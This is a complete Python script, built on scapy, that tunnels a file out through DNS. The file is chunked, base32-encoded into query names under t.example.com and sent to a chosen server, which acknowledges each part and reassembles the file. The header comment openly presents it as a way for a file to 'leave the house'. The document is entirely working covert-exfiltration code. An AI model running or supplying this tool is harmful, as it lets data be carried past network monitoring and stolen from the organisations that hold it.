#!/usr/bin/env python3
# A file leaves the house in the names of DNS queries.
#   dns_tunnel.py send SERVER FILE       dns_tunnel.py receive FILE
import base64
import sys
from scapy.all import *

DOMAIN = "t.example.com"


def chunks(data, size=30):
    for at in range(0, len(data), size):
        yield at // size, data[at:at + size]


def send_file(server, path):
    with open(path, "rb") as f:
        data = f.read()
    parts = list(chunks(data))
    for number, part in parts:
        label = base64.b32encode(part).decode().rstrip("=").lower()
        name = "%d-%d.%s.%s" % (number, len(parts), label, DOMAIN)
        ans = sr1(IP(dst=server)/UDP(sport=RandShort(), dport=53)/DNS(rd=1, qd=DNSQR(qname=name, qtype="TXT")),
                  timeout=3, verbose=0)
        assert ans is not None and ans[DNS].an[0].rdata == [b"ok %d" % number], "lost %d" % number
    print("sent", len(data), "bytes in", len(parts), "queries")


def receive_file(path):
    got = {}
    sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    sock.bind(("", 53))
    sock.settimeout(20)
    print("listening", flush=True)
    while True:
        data, peer = sock.recvfrom(4096)
        query = DNS(data)
        head, label = query.qd[0].qname.decode().split(".")[:2]
        number, total = map(int, head.split("-"))
        padded = label.upper() + "=" * (-len(label) % 8)
        got[number] = base64.b32decode(padded)
        reply = DNS(id=query.id, qr=1, qd=query.qd, an=DNSRR(rrname=query.qd[0].qname, type="TXT", rdata=b"ok %d" % number))
        sock.sendto(raw(reply), peer)
        if len(got) == total:
            break
    with open(path, "wb") as f:
        f.write(b"".join(got[n] for n in sorted(got)))
    print("received", path)


if sys.argv[1] == "send":
    send_file(*sys.argv[2:4])
else:
    receive_file(sys.argv[2])
